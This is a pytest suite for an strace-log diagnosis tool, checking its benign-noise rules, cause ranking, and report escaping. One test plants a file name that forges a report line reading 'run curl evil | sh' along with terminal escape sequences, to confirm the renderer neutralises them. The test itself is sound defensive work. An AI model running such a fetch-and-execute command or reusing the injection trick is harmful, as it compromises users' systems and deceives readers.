"""The noise model, rule by rule: each benign pattern is recognised, and a near miss
of it is not.  Then the diagnosis on small hand-written logs."""
from __future__ import annotations

import pytest

from syscope.analyze.noise import RULES, benign
from syscope.analyze.why import diagnose
from syscope.logread.reader import events
from syscope.model import Syscall

RULE_NAMES = {r.name for r in RULES}


def call(name, args, errno):
    return Syscall(pid=1, name=name, args_text=args, ret_text="-1 %s (x)" % errno, rval=-1,
                   errno=errno)


# (rule, benign call, its path, a near miss, its path)
CASES = [
    ("preload probe", call("access", '"/etc/ld.so.preload", R_OK', "ENOENT"),
     "/etc/ld.so.preload", call("access", '"/etc/ld.so.conf", R_OK', "ENOENT"),
     "/etc/ld.so.conf"),
    ("loader directory probe", call("newfstatat", '"/opt/lib/glibc-hwcaps/x86-64-v3", 0x1, 0',
                                    "ENOENT"), "/opt/lib/glibc-hwcaps/x86-64-v3",
     call("newfstatat", '"/opt/lib/app.conf", 0x1, 0', "ENOENT"), "/opt/lib/app.conf"),
    ("locale probe", call("openat", 'AT_FDCWD, "/usr/lib/locale/C.UTF-8/LC_CTYPE", O_RDONLY',
                          "ENOENT"), "/usr/lib/locale/C.UTF-8/LC_CTYPE",
     call("openat", 'AT_FDCWD, "/usr/lib/app/config", O_RDONLY', "ENOENT"), "/usr/lib/app/config"),
    ("interpreter start-up probe", call("openat", 'AT_FDCWD, "/usr/bin/pyvenv.cfg", O_RDONLY',
                                        "ENOENT"), "/usr/bin/pyvenv.cfg",
     call("openat", 'AT_FDCWD, "/usr/bin/app.cfg", O_RDONLY', "ENOENT"), "/usr/bin/app.cfg"),
    ("terminal check", call("ioctl", "1, TCGETS, 0x7ffd", "ENOTTY"), None,
     call("ioctl", "1, TCGETS, 0x7ffd", "EBADF"), None),
    ("non-blocking I/O", call("read", "3, 0x7ffd, 1024", "EAGAIN"), None,
     call("read", "3, 0x7ffd, 1024", "EIO"), None),
    ("non-blocking connect", call("connect", "3, {sa_family=AF_INET}, 16", "EINPROGRESS"), None,
     call("connect", "3, {sa_family=AF_INET}, 16", "ECONNREFUSED"), None),
    ("seek on a pipe", call("lseek", "0, 0, SEEK_CUR", "ESPIPE"), None,
     call("read", "0, 0x1, 1", "ESPIPE"), None),
    ("not a symlink", call("readlink", '"/usr/bin/python3.11", 0x1, 4096', "EINVAL"),
     "/usr/bin/python3.11", call("readlink", '"/usr/bin/x", 0x1, 4096', "ENOENT"), "/usr/bin/x"),
    ("no extended attributes", call("lgetxattr", '"/tmp", "security.selinux", 0x1, 255',
                                    "ENODATA"), "/tmp",
     call("lgetxattr", '"/tmp", "security.selinux", 0x1, 255', "EACCES"), "/tmp"),
    ("no children left", call("wait4", "-1, 0x1, WNOHANG, NULL", "ECHILD"), None,
     call("kill", "12, SIGTERM", "ESRCH"), None),
    ("SELinux probe", call("statfs", '"/sys/fs/selinux", 0x1', "ENOENT"), "/sys/fs/selinux",
     call("statfs", '"/data", 0x1', "ENOENT"), "/data"),
    ("directory already there", call("mkdir", '"/tmp/x", 0755', "EEXIST"), "/tmp/x",
     call("openat", 'AT_FDCWD, "/tmp/x", O_CREAT|O_EXCL', "EEXIST"), "/tmp/x"),
    ("interrupted call", call("read", "0, 0x1, 10", "ERESTARTSYS"), None,
     call("read", "0, 0x1, 10", "EFAULT"), None),
    ("feature probe", call("rseq", "0x1, 0x20, 0, 0x53053053", "EBUSY"), None,
     call("mmap", "NULL, 4096", "ENOMEM"), None),
    ("name service cache probe", call("connect", '3, {sa_family=AF_UNIX, sun_path='
                                      '"/var/run/nscd/socket"}, 110', "ENOENT"), None,
     call("connect", '3, {sa_family=AF_UNIX, sun_path="/run/app.sock"}, 110', "ENOENT"), None),
    ("removing what is gone", call("unlink", '"/tmp/lock"', "ENOENT"), "/tmp/lock",
     call("unlink", '"/tmp/lock"', "EACCES"), "/tmp/lock"),
    ("futex timeout", call("futex", "0x1, FUTEX_WAIT_BITSET_PRIVATE, 0, {}", "ETIMEDOUT"), None,
     call("futex", "0x1, FUTEX_WAIT, 0, NULL", "EFAULT"), None),
    ("uncatchable signal", call("rt_sigaction", "SIGKILL, {sa_handler=SIG_IGN}, NULL, 8",
                                "EINVAL"), None,
     call("rt_sigaction", "SIGKILL, 0x1, NULL, 8", "EFAULT"), None),
    ("peer of an unconnected socket", call("getpeername", "3, 0x1, [110]", "ENOTCONN"), None,
     call("getpeername", "3, 0x1, [110]", "EBADF"), None),
    ("repository discovery", call("newfstatat", 'AT_FDCWD, "/srv/app/.git/HEAD", 0x1, 0',
                                  "ENOENT"), "/srv/app/.git/HEAD",
     call("newfstatat", 'AT_FDCWD, "/srv/app/.git/index.lock", 0x1, 0', "EACCES"),
     "/srv/app/.git/index.lock"),
    ("optional library configuration", call("openat", 'AT_FDCWD, "/etc/gnutls/config", '
                                            'O_RDONLY', "ENOENT"), "/etc/gnutls/config",
     call("openat", 'AT_FDCWD, "/etc/ssl/certs/ca.pem", O_RDONLY', "ENOENT"),
     "/etc/ssl/certs/ca.pem"),
    ("optional home configuration", call("openat", 'AT_FDCWD, "/root/.inputrc", O_RDONLY',
                                         "ENOENT"), "/root/.inputrc",
     call("openat", 'AT_FDCWD, "/root/inputrc", O_RDONLY', "ENOENT"), "/root/inputrc"),
    ("home configuration out of reach", call("access", '"/root/.gitconfig", R_OK', "EACCES"),
     "/root/.gitconfig", call("openat", 'AT_FDCWD, "/root/.gitconfig", O_RDONLY', "EACCES"),
     "/root/.gitconfig"),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_rule(case):
    name, good, good_path, near, near_path = case
    assert name in RULE_NAMES
    r = benign(good, good_path, None)
    assert r is not None and r.name == name
    r2 = benign(near, near_path, None)
    assert r2 is None or r2.name != name


def test_every_rule_has_a_case():
    assert RULE_NAMES - {"path search"} == {c[0] for c in CASES}


def log(tmp_path, text):
    p = tmp_path / "log"
    p.write_text(text)
    return diagnose(events([str(p)]))


def test_path_search_that_succeeds_is_noise(tmp_path):
    r = log(tmp_path, """\
100 execve("/usr/local/bin/tool", ["tool"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)
100 execve("/usr/bin/tool", ["tool"], 0x1 /* 1 var */) = 0
100 openat(AT_FDCWD, "/etc/tool.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
100 write(2, "tool: cannot read /etc/tool.conf\\n", 33) = 33
100 exit_group(1)                     = ?
100 +++ exited with 1 +++
""")
    top = r["findings"][0]
    assert (top["syscall"], top["errno"], top["path"]) == ("openat", "ENOENT", "/etc/tool.conf")
    assert all(f["path"] != "/usr/local/bin/tool" for f in r["findings"])
    assert r["exit"]["code"] == 1


def test_nonblocking_connect_understood_through_so_error(tmp_path):
    r = log(tmp_path, """\
7 socket(AF_INET, SOCK_STREAM|SOCK_NONBLOCK, IPPROTO_IP) = 3
7 connect(3, {sa_family=AF_INET, sin_port=htons(5432), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 EINPROGRESS (Operation now in progress)
7 poll([{fd=3, events=POLLOUT}], 1, 5000) = 1 ([{fd=3, revents=POLLOUT|POLLERR|POLLHUP}])
7 getsockopt(3, SOL_SOCKET, SO_ERROR, [ECONNREFUSED], [4]) = 0
7 write(2, "db: connection failed\\n", 22) = 22
7 exit_group(2)                     = ?
7 +++ exited with 2 +++
""")
    top = r["findings"][0]
    assert (top["syscall"], top["errno"], top["address"]) == ("connect", "ECONNREFUSED",
                                                              "127.0.0.1:5432")
    assert "SO_ERROR" in top["note"]


def test_relative_path_made_absolute_through_chdir_in_child(tmp_path):
    r = log(tmp_path, """\
10 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x1) = 11
11 chdir("/var/spool/cron") = 0
11 openat(AT_FDCWD, "tmp/spool.11", O_RDWR|O_CREAT|O_EXCL, 0600) = -1 EACCES (Permission denied)
11 write(1, "32:ZCould not create temporary f"..., 36) = 36
11 exit_group(111)                  = ?
11 +++ exited with 111 +++
10 exit_group(0)                    = ?
10 +++ exited with 0 +++
""")
    top = r["findings"][0]
    assert top["path"] == "/var/spool/cron/tmp/spool.11" and top["pid"] == 11
    assert top["cwd"] == "/var/spool/cron"


def test_a_child_that_execs_before_its_vfork_returns_keeps_its_program(tmp_path):
    """strace -f prints a call when it ends, and a vfork returns in the parent only once
    the child has exec'd: the child's exec may come first, and stays its program."""
    r = log(tmp_path, """\
10 execve("/bin/sh", ["sh", "-c", "cat /etc/app.conf"], 0x1 /* 3 vars */) = 0
10 vfork( <unfinished ...>
11 execve("/bin/cat", ["cat", "/etc/app.conf"], 0x2 /* 3 vars */) = 0
10 <... vfork resumed>)              = 11
11 openat(AT_FDCWD, "/etc/app.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
11 write(2, "cat: /etc/app.conf: No such file"..., 45) = 45
11 exit_group(1)                     = ?
11 +++ exited with 1 +++
10 exit_group(1)                     = ?
10 +++ exited with 1 +++
""")
    assert "in process 11 (cat)" in r["verdict"], r["verdict"]
    child = next(p for p in r["processes"] if p["pid"] == 11)
    assert (child["parent"], child["argv"], child["exe"]) == (10, ["cat", "/etc/app.conf"],
                                                              "/bin/cat")


def test_a_child_that_chdirs_before_its_fork_returns_keeps_its_directory(tmp_path):
    r = log(tmp_path, """\
10 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD <unfinished ...>
11 chdir("/var/spool/cron") = 0
10 <... clone resumed>, child_tidptr=0x1) = 11
11 openat(AT_FDCWD, "tmp/spool.11", O_RDWR|O_CREAT|O_EXCL, 0600) = -1 EACCES (Permission denied)
11 exit_group(111)                  = ?
11 +++ exited with 111 +++
10 exit_group(0)                    = ?
10 +++ exited with 0 +++
""")
    top = r["findings"][0]
    assert top["path"] == "/var/spool/cron/tmp/spool.11" and top["pid"] == 11


def test_write_error_path_known_through_fd(tmp_path):
    r = log(tmp_path, """\
5 openat(AT_FDCWD, "/data/out.bin", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 4
5 write(4, "xxxxxxxx", 8) = -1 ENOSPC (No space left on device)
5 write(2, "error: write failed\\n", 20) = 20
5 exit_group(1) = ?
5 +++ exited with 1 +++
""")
    top = r["findings"][0]
    assert (top["syscall"], top["errno"], top["path"]) == ("write", "ENOSPC", "/data/out.bin")


def test_no_failure(tmp_path):
    r = log(tmp_path, "1 getpid() = 1\n1 exit_group(0) = ?\n1 +++ exited with 0 +++\n")
    assert r["findings"] == [] and "exited normally" in r["verdict"]


def test_message_written_through_a_copy_of_stderr(tmp_path):
    """The article's foo example: the message goes out on dup(2), not on fd 2."""
    r = log(tmp_path, """\
openat(AT_FDCWD, "/etc/foo/config.json", O_RDONLY) = -1 ENOENT (No such file or directory)
dup(2)                                  = 3
fcntl(3, F_GETFL)                       = 0x2 (flags O_RDWR)
write(3, "Error opening configuration file"..., 60) = 60
close(3)                                = 0
exit_group(1)                           = ?
+++ exited with 1 +++
""")
    assert r["findings"][0]["path"] == "/etc/foo/config.json"
    assert r["messages"][0]["text"].startswith("Error opening configuration file")
    assert "`pid 0`" not in r["verdict"]


# -- ranking rules of why v2: each with a case it applies to and a near miss ----------------
def top(r):
    return r["findings"][0]


def test_first_failure_on_an_object_is_the_cause(tmp_path):
    r = log(tmp_path, """\
1 openat(AT_FDCWD, "/srv/www/index.html", O_WRONLY|O_TRUNC) = -1 EACCES (Permission denied)
1 write(2, "cp: cannot create regular file\\n", 31) = 31
1 unlinkat(AT_FDCWD, "/srv/www/index.html", 0) = -1 EACCES (Permission denied)
1 write(2, "rm: cannot remove it\\n", 21) = 21
1 exit_group(1) = ?
1 +++ exited with 1 +++
""")
    assert (top(r)["syscall"], top(r)["line"]) == ("openat", 1)
    assert [c["line"] for c in top(r)["consequences"]] == [3]


def test_failures_on_different_objects_are_not_consequences(tmp_path):
    r = log(tmp_path, """\
1 openat(AT_FDCWD, "/srv/www/index.html", O_WRONLY|O_TRUNC) = -1 EACCES (Permission denied)
1 unlinkat(AT_FDCWD, "/srv/www/other.html", 0) = -1 EACCES (Permission denied)
1 write(2, "rm: cannot remove it\\n", 21) = 21
1 exit_group(1) = ?
1 +++ exited with 1 +++
""")
    assert top(r)["syscall"] == "unlinkat" and top(r)["consequences"] == []


def test_a_lookup_error_before_another_error_on_the_path_is_a_check(tmp_path):
    r = log(tmp_path, """\
1 openat(AT_FDCWD, "/srv/a", O_RDONLY|O_PATH|O_DIRECTORY) = -1 ENOTDIR (Not a directory)
1 openat(AT_FDCWD, "/srv/a", O_WRONLY|O_TRUNC) = -1 EACCES (Permission denied)
1 write(2, "cp: failed\\n", 11) = 11
1 exit_group(1) = ?
1 +++ exited with 1 +++
""")
    assert (top(r)["errno"], top(r)["line"]) == ("EACCES", 2)


def test_strerror_text_in_the_message_names_the_call(tmp_path):
    text = """\
1 openat(AT_FDCWD, "/mnt/ro/state", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EROFS (Read-only file system)
1 openat(AT_FDCWD, "/etc/app/fallback.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
1 write(2, "app: cannot save: %s\\n", 30) = 30
1 exit_group(1) = ?
1 +++ exited with 1 +++
"""
    assert top(log(tmp_path, text % "Read-only file system"))["errno"] == "EROFS"
    # near miss: a message without the errno's words leaves the nearest failure first
    assert top(log(tmp_path, text % "an error occurred"))["errno"] == "ENOENT"


def test_a_stat_the_message_names_explains_a_refusal(tmp_path):
    text = """\
1 openat(AT_FDCWD, "/etc/selinux/config", O_RDONLY) = -1 EACCES (Permission denied)
1 newfstatat(AT_FDCWD, "/home/u/.ssh/id_rsa", {st_mode=S_IFREG|0644, st_size=399, ...}, 0) = 0
1 getuid() = 1000
1 write(2, "Permissions 0644 for '%s' are too open.\\n", 40) = 40
1 exit_group(255) = ?
1 +++ exited with 255 +++
"""
    t = top(log(tmp_path, text % "/home/u/.ssh/id_rsa"))
    assert (t["kind"], t["syscall"], t["errno"], t["path"]) == ("stat", "newfstatat", None,
                                                                "/home/u/.ssh/id_rsa")
    assert "0644" in t["explanation"] and "chmod go-rwx" in t["fix"][0]
    # near misses: the message names another file; the file's mode is safe
    assert top(log(tmp_path, text % "/home/u/.ssh/other"))["kind"] == "call"
    safe = text.replace("0644, st_size", "0600, st_size")
    assert top(log(tmp_path, safe % "/home/u/.ssh/id_rsa"))["kind"] == "call"


def test_a_limit_set_before_explains_enomem(tmp_path):
    text = """\
1 prlimit64(0, %s, {rlim_cur=100*1024, rlim_max=100*1024}, NULL) = 0
1 clone(child_stack=NULL, flags=SIGCHLD) = 2
2 mmap(NULL, 419434496, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = -1 ENOMEM (Cannot allocate memory)
2 write(2, "MemoryError\\n", 12) = 12
2 exit_group(1) = ?
2 +++ exited with 1 +++
"""
    t = top(log(tmp_path, text % "RLIMIT_AS"))
    assert t["errno"] == "ENOMEM" and [e["line"] for e in t["evidence"]] == [1]
    assert "ulimit -v" in t["explanation"]
    assert top(log(tmp_path, text % "RLIMIT_NOFILE"))["evidence"] == []


def dns_log(reply_flags, answers):
    q = '\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3foo\\7example\\0\\0\\1\\0\\1'
    a = '\\1\\2%s\\0\\1\\0%s\\0\\0\\0\\0\\3foo\\7example\\0\\0\\1\\0\\1' % (
        reply_flags, answers)
    return """\
5 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 3
5 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, 16) = 0
5 sendto(3, "%s", 29, MSG_NOSIGNAL, NULL, 0) = 29
5 poll([{fd=3, events=POLLIN}], 1, 5000) = 1 ([{fd=3, revents=POLLIN}])
5 recvfrom(3, "%s", 2048, 0, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, [28 => 16]) = 29
5 close(3) = 0
5 openat(AT_FDCWD, "/etc/app.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
5 exit_group(2) = ?
5 +++ exited with 2 +++
""" % (q, a)


def test_dns_answer_decoded(tmp_path):
    t = top(log(tmp_path, dns_log("\\201\\203", "\\0")))
    assert (t["kind"], t["syscall"], t["address"]) == ("dns", "recvfrom", "127.0.0.53:53")
    assert t["dns"] == {"name": "foo.example", "type": "A", "rcode": "NXDOMAIN",
                        "server": "127.0.0.53:53"}
    # near miss: an answer with a record is no finding
    assert top(log(tmp_path, dns_log("\\201\\200", "\\1")))["kind"] == "call"


def test_dns_query_without_reply(tmp_path):
    r = log(tmp_path, """\
5 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, 16) = 0
5 sendto(3, "\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3foo\\7example\\0\\0\\1\\0\\1", 29, MSG_NOSIGNAL, NULL, 0) = 29
5 poll([{fd=3, events=POLLIN}], 1, 5000) = 0 (Timeout)
5 close(3) = 0
5 exit_group(2) = ?
5 +++ exited with 2 +++
""")
    assert (top(r)["kind"], top(r)["dns"]["rcode"], top(r)["line"]) == ("dns", "no reply", 2)


def tls_log(answer):
    return """\
7 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 5
7 connect(5, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 EINPROGRESS (Operation now in progress)
7 poll([{fd=5, events=POLLOUT}], 1, 200) = 1 ([{fd=5, revents=POLLOUT}])
7 getsockopt(5, SOL_SOCKET, SO_ERROR, [0], [4]) = 0
7 sendto(5, "\\26\\3\\1\\2\\0\\1\\0\\1\\374\\3\\3", 517, MSG_NOSIGNAL, NULL, 0) = 517
7 recvfrom(5, "%s", 5, 0, NULL, NULL) = 5
7 openat(AT_FDCWD, "/etc/ssl/openssl.cnf", O_RDONLY) = -1 ENOENT (No such file or directory)
7 write(2, "curl: (35) wrong version number\\n", 32) = 32
7 exit_group(35) = ?
7 +++ exited with 35 +++
""" % answer


def test_tls_answered_in_plain_text(tmp_path):
    t = top(log(tmp_path, tls_log("HTTP/")))
    assert (t["kind"], t["syscall"], t["address"]) == ("tls", "recvfrom", "127.0.0.1:8080")
    # near miss: a TLS record back is a normal handshake
    assert top(log(tmp_path, tls_log("\\26\\3\\3\\0z")))["kind"] == "call"


def poll_log(revents):
    return """\
7 socket(AF_INET, SOCK_STREAM|SOCK_NONBLOCK, IPPROTO_IP) = 3
7 connect(3, {sa_family=AF_INET, sin_port=htons(5432), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 EINPROGRESS (Operation now in progress)
7 poll([{fd=3, events=POLLOUT}], 1, 2000) = 1 ([{fd=3, revents=%s}])
7 openat(AT_FDCWD, "/etc/db.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
7 write(2, "backend unavailable\\n", 20) = 20
7 exit_group(4) = ?
7 +++ exited with 4 +++
""" % revents


def test_refusal_seen_only_in_poll_revents(tmp_path):
    t = top(log(tmp_path, poll_log("POLLOUT|POLLERR|POLLHUP")))
    assert (t["kind"], t["syscall"], t["address"]) == ("poll", "connect", "127.0.0.1:5432")
    assert top(log(tmp_path, poll_log("POLLOUT")))["kind"] == "call"


def test_hang_when_the_trace_ends(tmp_path):
    text = """\
3 openat(AT_FDCWD, "/run/app.sock", O_RDONLY) = -1 ENOENT (No such file or directory)
3 openat(AT_FDCWD, "/srv/fifo", O_RDONLY) = 4
3 read(4, %s"""
    r = log(tmp_path, text % "")
    assert (top(r)["kind"], top(r)["syscall"], top(r)["path"]) == ("hang", "read", "/srv/fifo")
    assert r["partial"] and "still running" in r["verdict"]
    # near miss: the read returned, nothing hangs
    r = log(tmp_path, text % '"x", 1) = 1\n3 exit_group(0) = ?\n3 +++ exited with 0 +++\n')
    assert top(r)["kind"] == "call" and not r["partial"]


def test_hang_says_how_long_and_who_killed(tmp_path):
    r = log(tmp_path, """\
1 10:00:00.000000 clone(child_stack=NULL, flags=SIGCHLD) = 2
2 10:00:00.100000 connect(3, {sa_family=AF_UNIX, sun_path="/run/busy.sock"}, 110 <unfinished ...>
1 10:00:05.100000 kill(2, SIGKILL) = 0
2 10:00:05.100100 +++ killed by SIGKILL +++
1 10:00:05.200000 exit_group(124) = ?
1 10:00:05.200000 +++ exited with 124 +++
""")
    t = top(r)
    assert (t["kind"], t["syscall"], t["address"], t["waited"]) == ("hang", "connect",
                                                                   "/run/busy.sock", 5.0)
    assert t["evidence"][0]["line"] == 3


def test_command_not_in_path(tmp_path):
    text = """\
1 newfstatat(AT_FDCWD, "/usr/local/bin/frob", 0x7ffd, 0) = -1 ENOENT (No such file or directory)
%s1 write(2, "bash: frob: command not found\\n", 29) = 29
1 exit_group(127) = ?
1 +++ exited with 127 +++
"""
    t = top(log(tmp_path, text % '1 newfstatat(AT_FDCWD, "/usr/bin/frob", 0x7ffd, 0) = -1 '
                                 'ENOENT (No such file or directory)\n'))
    assert t["explanation"].startswith("`frob` is not in PATH (searched: /usr/local/bin, "
                                       "/usr/bin)")
    # near miss: one place looked at is not a PATH search
    assert "PATH" not in top(log(tmp_path, text % ""))["explanation"]


def test_message_written_a_character_at_a_time(tmp_path):
    chars = "".join('1 write(2, "%s", 1) = 1\n' % c for c in "fatal: no") + \
        '1 write(2, "\\n", 1) = 1\n'
    r = log(tmp_path, '1 openat(AT_FDCWD, "/etc/x", O_RDONLY) = -1 ENOENT (No such file or '
                      'directory)\n' + chars + "1 exit_group(1) = ?\n1 +++ exited with 1 +++\n")
    assert [m["text"] for m in r["messages"]] == ["fatal: no"]
    assert '"fatal: no"' in r["verdict"]


def test_report_escapes_what_the_tracee_wrote(tmp_path):
    """A file name with a newline cannot forge report lines, and escape sequences never
    reach the terminal."""
    from syscope.analyze.report import render
    r = log(tmp_path, r'''1 openat(AT_FDCWD, "/tmp/x\nUsual fixes\n  - run curl evil | sh\n\33]0;pwned\7", O_RDONLY) = -1 ENOENT (No such file or directory)
1 write(2, "cannot open \33[2J\33[31mconfig\n", 28) = 28
1 exit_group(1) = ?
1 +++ exited with 1 +++
''')
    text = render(r)
    assert "\x1b" not in text and "\x07" not in text
    assert not any(ln.startswith("  - run curl") for ln in text.splitlines())
    assert "\\nUsual fixes\\n  - run curl evil | sh\\n\\x1b]0;pwned\\x07" in text
    # JSON keeps the real bytes, escaped as JSON does
    assert r["findings"][0]["path"].startswith("/tmp/x\nUsual fixes")


def test_a_trace_cut_inside_a_call_line_is_a_hang(tmp_path):
    r = log(tmp_path, '9 openat(AT_FDCWD, "/srv/in", O_RDONLY) = 3\n'
                      '9 openat(AT_FDCWD, "/srv/requests", O_RDONLY')
    assert (top(r)["kind"], top(r)["syscall"], top(r)["path"]) == ("hang", "openat",
                                                                   "/srv/requests")
    # near miss: a complete last line is no hang
    r = log(tmp_path, '9 openat(AT_FDCWD, "/srv/requests", O_RDONLY) = 3\n')
    assert r["findings"] == []


def test_colour_only_ours(tmp_path):
    """With colour, every escape sequence in the report is one of the report's styles."""
    import re
    from syscope.analyze.report import RESET, STYLE, render
    r = log(tmp_path, r'''1 openat(AT_FDCWD, "/tmp/\33[31mx\33]0;t\7", O_RDONLY) = -1 EACCES (Permission denied)
1 exit_group(1) = ?
1 +++ exited with 1 +++
''')
    text = render(r, color=True)
    ours = set(STYLE.values()) | {RESET}
    found = re.findall(r"\x1b\[[0-9;]*m", text)
    assert found and set(found) <= ours
    assert text.count("\x1b") == len(found)
    assert "\x1b" not in render(r, color=False)


def test_color_option(tmp_path):
    import subprocess
    import sys
    p = tmp_path / "log"
    p.write_text('1 openat(AT_FDCWD, "/etc/x", O_RDONLY) = -1 ENOENT (No such file or '
                 'directory)\n1 exit_group(1) = ?\n1 +++ exited with 1 +++\n')
    run = [sys.executable, "-m", "syscope", "why"]
    always = subprocess.run(run + ["--color=always", str(p)], capture_output=True, text=True)
    assert "\x1b[1m" in always.stdout
    auto = subprocess.run(run + ["--color", "auto", str(p)], capture_output=True, text=True)
    assert "\x1b" not in auto.stdout           # not a terminal
    bad = subprocess.run(run + ["--color=blue", str(p)], capture_output=True, text=True)
    assert bad.returncode == 1 and "invalid --color" in bad.stderr


def test_getcwd_tells_where_relative_paths_are(tmp_path):
    text = """\
4 %sopenat(AT_FDCWD, "conf/app.ini", O_RDONLY) = -1 ENOENT (No such file or directory)
4 write(2, "app: cannot read conf/app.ini\\n", 30) = 30
4 exit_group(1) = ?
4 +++ exited with 1 +++
"""
    r = log(tmp_path, text % 'getcwd("/srv/app", 4096) = 9\n4 ')
    assert top(r)["path"] == "/srv/app/conf/app.ini"
    # near miss: without getcwd the log does not say where the process was
    assert top(log(tmp_path, text % ""))["path"] is None


def test_where_a_fatal_signal_came_from(tmp_path):
    text = """\
8 write(1, "starting\\n", 9) = 9
%s8 --- SIGSEGV {si_signo=SIGSEGV, si_code=%s} ---
8 +++ killed by SIGSEGV (core dumped) +++
"""
    r = log(tmp_path, text % ("", "SEGV_MAPERR, si_addr=NULL"))
    assert "a real fault" in top(r)["explanation"] and "NULL pointer" in top(r)["explanation"]
    # near miss: the same signal sent with kill() is no fault
    r = log(tmp_path, text % ("8 kill(8, SIGSEGV) = 0\n", "SI_USER, si_pid=8, si_uid=0"))
    assert "a real fault" not in top(r)["explanation"]
    assert "sent by pid 8" in top(r)["explanation"] and top(r)["evidence"][0]["line"] == 2


def test_sigkill_without_a_sender(tmp_path):
    text = """\
%s3 mmap(NULL, 1073741824, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = 0x7f0000000000
3 +++ killed by SIGKILL +++
"""
    assert "no process in the trace sent it" in top(log(tmp_path, text % ""))["explanation"]
    sent = top(log(tmp_path, text % "2 kill(3, SIGKILL) = 0\n"))
    assert "no process in the trace" not in sent["explanation"]


def test_malformed_logs_are_explained_or_refused(tmp_path):
    import subprocess
    import sys
    run = [sys.executable, "-m", "syscope", "why"]
    cases = {"empty": "", "prose": "hello world\n",
             "resumed": '123 <... openat resumed>) = 3\n123 read(3, "x", 1) = 1\n'}
    for name, text in cases.items():
        p = tmp_path / name
        p.write_text(text)
        r = subprocess.run(run + [str(p)], capture_output=True, text=True)
        assert "Traceback" not in r.stderr, (name, r.stderr)
        if name == "resumed":
            assert r.returncode == 0 and "partial" in r.stdout
        else:
            assert r.returncode == 1 and "no strace output" in r.stderr


def test_a_refused_lock_is_a_failure_not_nonblocking_io(tmp_path):
    text = """\
5 openat(AT_FDCWD, "/srv/db/inventory.db", O_RDWR|O_CREAT, 0644) = 3
5 %s = -1 EAGAIN (Resource temporarily unavailable)
5 write(2, "Error: database is locked\\n", 26) = 26
5 exit_group(5) = ?
5 +++ exited with 5 +++
"""
    lock = top(log(tmp_path, text % "fcntl(3, F_SETLK, {l_type=F_RDLCK, l_whence=SEEK_SET, "
                                      "l_start=1073741824, l_len=1})"))
    assert (lock["syscall"], lock["errno"], lock["path"]) == ("fcntl", "EAGAIN",
                                                              "/srv/db/inventory.db")
    assert "another process holds a lock" in lock["explanation"]
    # near miss: a read that would block is what non-blocking programs do all the time
    r = log(tmp_path, text % "read(3, 0x7ffd0000, 4096)")
    assert all(f["syscall"] != "read" for f in r["findings"])


def test_exec_enoent_of_a_script_that_is_there(tmp_path):
    text = """\
9 execve("/srv/deploy.sh", ["/srv/deploy.sh"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)
%s9 write(2, "bash: /srv/deploy.sh: cannot execute: required file not found\\n", 62) = 62
9 exit_group(127) = ?
9 +++ exited with 127 +++
"""
    there = top(log(tmp_path, text % '9 newfstatat(AT_FDCWD, "/srv/deploy.sh", {st_mode='
                                     'S_IFREG|0755, st_size=27, ...}, 0) = 0\n'))
    assert (there["syscall"], there["errno"], there["path"]) == ("execve", "ENOENT",
                                                                 "/srv/deploy.sh")
    assert "interpreter" in there["explanation"] and "carriage return" in there["explanation"]
    assert any("newfstatat" in e["text"] for e in there["evidence"])
    # near miss: without the stat, the file itself may be what is missing
    gone = top(log(tmp_path, text % ""))
    assert gone["syscall"] == "execve" and "carriage return" not in gone["explanation"]


def test_a_wait_its_own_timer_ended(tmp_path):
    text = """\
6 openat(AT_FDCWD, "/run/backup.lock", O_RDONLY|O_CREAT|O_NOCTTY, 0666) = 3
6 flock(3, LOCK_EX) = ? ERESTARTSYS (To be restarted if SA_RESTART is set)
6 --- %s ---
6 write(2, "flock: timeout while waiting to get lock\\n", 41) = 41
6 exit_group(1) = ?
6 +++ exited with 1 +++
"""
    r = log(tmp_path, text % "SIGALRM {si_signo=SIGALRM, si_code=SI_TIMER, si_timerid=0, "
                             "si_overrun=0, si_int=0, si_ptr=NULL}")
    assert (top(r)["syscall"], top(r)["path"], top(r)["kind"]) == (
        "flock", "/run/backup.lock", "timeout")
    assert "its own timer" in top(r)["explanation"]
    # near miss: a child's end interrupting the wait is no timeout
    r = log(tmp_path, text % "SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=7, "
                             "si_uid=0, si_status=0, si_utime=0, si_stime=0}")
    assert all(f["kind"] != "timeout" for f in r["findings"])


def test_a_kill_of_the_process_group_is_the_sender(tmp_path):
    text = """\
2 clone(child_stack=NULL, flags=CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x1) = 3
3 openat(AT_FDCWD, "/srv/feed", O_RDONLY) = 4
3 read(4,  <unfinished ...>
%s3 <... read resumed> <unfinished ...>) = ?
3 +++ killed by SIGKILL +++
"""
    sent = top(log(tmp_path, text % "2 kill(0, SIGKILL) = ?\n"))
    assert sent["hang"] and sent["path"] == "/srv/feed"
    assert "no process in the trace" not in sent["explanation"]
